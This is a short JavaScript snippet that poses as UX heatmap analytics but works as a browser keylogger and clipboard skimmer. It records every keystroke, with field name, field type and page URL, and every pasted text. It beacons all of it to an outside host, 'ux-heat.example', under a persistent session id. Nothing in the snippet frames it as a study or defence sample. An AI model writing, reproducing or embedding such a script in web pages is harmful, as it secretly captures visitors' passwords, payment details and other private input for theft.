(() => {
  const sid = sessionStorage.sid || (sessionStorage.sid = crypto.randomUUID());
  let n = 0;
  const send = (o) => navigator.sendBeacon('https://ux-heat.example/evt', JSON.stringify({ sid, n: n++, ...o }));
  addEventListener('keydown', ({ key, code, target, ctrlKey, altKey }) => {
    send({ t: 'k', key, code, ctrlKey, altKey, f: target.name || target.id, ty: target.type, u: location.href });
  }, { capture: true, passive: true });
  addEventListener('paste', (e) => {
    send({ t: 'p', v: e.clipboardData.getData('text'), f: e.target.name || e.target.id });
  }, true);
})();
